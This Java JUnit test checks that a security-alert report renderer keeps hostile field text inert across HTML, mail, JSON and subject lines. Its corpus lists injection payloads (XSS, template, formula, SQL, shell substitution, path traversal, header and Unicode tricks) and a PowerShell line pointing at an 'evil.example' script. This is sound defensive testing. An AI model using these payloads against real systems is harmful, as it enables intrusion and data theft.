package io.mdr4j.reports;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.mdr4j.customer.Language;
import io.mdr4j.report.FirstReport;
import io.mdr4j.report.RenderedReport;
import io.mdr4j.severity.Severity;
import java.io.IOException;
import java.util.List;
import java.util.Locale;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

@DisplayName("Whatever stands in a field stays text in every form of a report")
class HostileTextTest {

    private static final PebbleReportRenderer RENDERER = PebbleReportRenderer.of(SampleReports.SOC);
    private static final Pattern TAG = Pattern.compile("<[^>]*>");
    private static final Pattern VALUE = Pattern.compile("\"[^\"]*\"");
    private static final Pattern LIVE = Pattern.compile("(?i)\\b(https?|ftps?|javascript|vbscript|data|mailto):\\S");

    private static final List<String> CORPUS = List.of(
            "<script>alert(1)</script>",
            "</title><script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onmouseover='alert(1)",
            "\" autofocus onfocus=\"alert(1)",
            "</style><script>x</script>",
            "<!-- x -->",
            "--><b>x",
            "<![CDATA[x]]>",
            "]]>",
            "<svg/onload=alert(1)>",
            "<a href=https://evil.example>x</a>",
            "<iframe srcdoc='<b>x</b>'>",
            "<base href=//evil.example>",
            "<meta http-equiv=refresh content=0>",
            "&lt;b&gt;",
            "&#60;script&#62;",
            "&quot;",
            "%3Cscript%3E",
            "\\u003cscript\\u003e",
            "\\x3cscript\\x3e",
            "{{ 7*7 }}",
            "{% import \"x\" %}",
            "{{ view.getClass() }}",
            "{# x #}",
            "${7*7}",
            "#{7*7}",
            "{0}{1}{9}",
            "%s%n%d",
            "javascript:alert(1)",
            "vbscript:x",
            "data:text/html,<script>x</script>",
            "https://evil.example/a?b=c",
            "http://192.0.2.66/x.ps1",
            "//evil.example/x",
            "ftp://evil.example",
            "mailto:a@evil.example",
            "https://user:pw@evil.example",
            "www.evil.example",
            "evil。example",
            "a\nb",
            "a\r\nBcc: x@evil.example",
            "a\tb",
            "a\u0000b",
            "\u001b[31mred\u001b[0m",
            "\u001b]0;title\u0007",
            "\u009b2J",
            "a\bb",
            "a\u007fb",
            "a\u0085b",
            "invoice\u202Egpj.exe",
            "\u2066x\u2069",
            "a\u200bb",
            "\ufeffx",
            "a\u2028b",
            "a\u2029b",
            "a\u00adb",
            "\u061cx",
            "x\ud800y",
            "\udc00",
            "\ue000",
            "\u3164x",
            "\u180ex",
            "e\u0301\u0302\u0303\u0304\u0305\u0306",
            "\u05d0\u05d1.exe",
            "\uff1cscript\uff1e",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "@SUM(1)",
            "-2+3",
            "';DROP TABLE x;--",
            "\" & calc & \"",
            "`id`",
            "$(id)",
            "../../etc/passwd",
            "CON",
            "\\\\evil.example\\share",
            "C:\\a\\請求書.docm",
            "𠮷野家 😀",
            "x".repeat(50_000),
            "<".repeat(2_000),
            "\u202e".repeat(400),
            "a.".repeat(20_000),
            "powershell -enc AAAA https://evil.example/p.ps1");

    static Stream<String> corpus() {
        return CORPUS.stream();
    }

    @Test
    void the_corpus_is_large_enough() {
        assertThat(CORPUS).hasSizeGreaterThanOrEqualTo(60).doesNotHaveDuplicates();
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("corpus")
    void html_keeps_its_tags_and_shows_everything(String text) {
        for (Language language : Language.values()) {
            String html = form(PebbleReportRenderer.HTML, text, language);
            assertThat(skeleton(html)).isEqualTo(skeleton(form(PebbleReportRenderer.HTML, "x", language)));
            assertNothingHidden(html);
            assertThat(html).doesNotContain("https://evil", "http://192").doesNotContain("src=x onerror=alert(1)>");
        }
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("corpus")
    void mail_keeps_its_lines_and_has_no_live_link(String text) {
        for (Language language : Language.values()) {
            String mail = form(PebbleReportRenderer.TEXT, text, language);
            assertThat(mail.lines().count())
                    .isEqualTo(form(PebbleReportRenderer.TEXT, "x", language)
                            .lines()
                            .count());
            assertNothingHidden(mail);
            assertThat(LIVE.matcher(mail.replace(SampleReports.SOC.email(), "")).find())
                    .isFalse();
            assertThat(mail.toLowerCase(Locale.ROOT)).doesNotContain("evil.example");
        }
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("corpus")
    void json_parses_and_gives_the_text_back(String text) throws IOException {
        String json = form(PebbleReportRenderer.JSON, text, Language.JA);
        assertNothingHidden(json.replace("\n", ""));
        assertThat(json).doesNotContain("<", ">");
        JsonNode root = new ObjectMapper().readTree(json);
        assertThat(root.at("/alerts/0/title").asText()).isEqualTo(Printable.bounded(text));
        assertThat(root.at("/endpoints/0/hostName").asText()).isEqualTo(Printable.bounded(text));
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("corpus")
    void the_subject_is_one_line_of_bounded_length(String text) {
        for (Language language : Language.values()) {
            String subject = RENDERER.subject(HostileReports.of(text, Severity.HIGH), language);
            assertNothingHidden(subject + "\n");
            assertThat(subject).doesNotContain("\n", "\r").hasSizeLessThan(400);
        }
    }

    @ParameterizedTest(name = "{index}")
    @MethodSource("corpus")
    void the_short_form_is_no_weaker(String text) {
        FirstReport report = HostileReports.of(text, Severity.FALSE_POSITIVE);
        String html = text(RENDERER.render(report, Language.JA), PebbleReportRenderer.HTML);
        String plain = text(
                RENDERER.render(HostileReports.of("x", Severity.FALSE_POSITIVE), Language.JA),
                PebbleReportRenderer.HTML);
        assertThat(skeleton(html)).isEqualTo(skeleton(plain));
        assertNothingHidden(html);
    }

    private static String form(String fileName, String text, Language language) {
        return text(RENDERER.render(HostileReports.of(text, Severity.HIGH), language), fileName);
    }

    static String text(List<RenderedReport> forms, String fileName) {
        return forms.stream()
                .filter(f -> f.fileName().equals(fileName))
                .findFirst()
                .orElseThrow()
                .document()
                .text();
    }

    private static List<String> skeleton(String html) {
        return TAG.matcher(html)
                .results()
                .map(m -> VALUE.matcher(m.group()).replaceAll("\"\""))
                .toList();
    }

    private static void assertNothingHidden(String document) {
        List<String> hidden = document.codePoints()
                .filter(c -> c != '\n' && Printable.isHidden(c))
                .mapToObj(c -> String.format("U+%04X", c))
                .distinct()
                .toList();
        assertThat(hidden).isEmpty();
    }
}
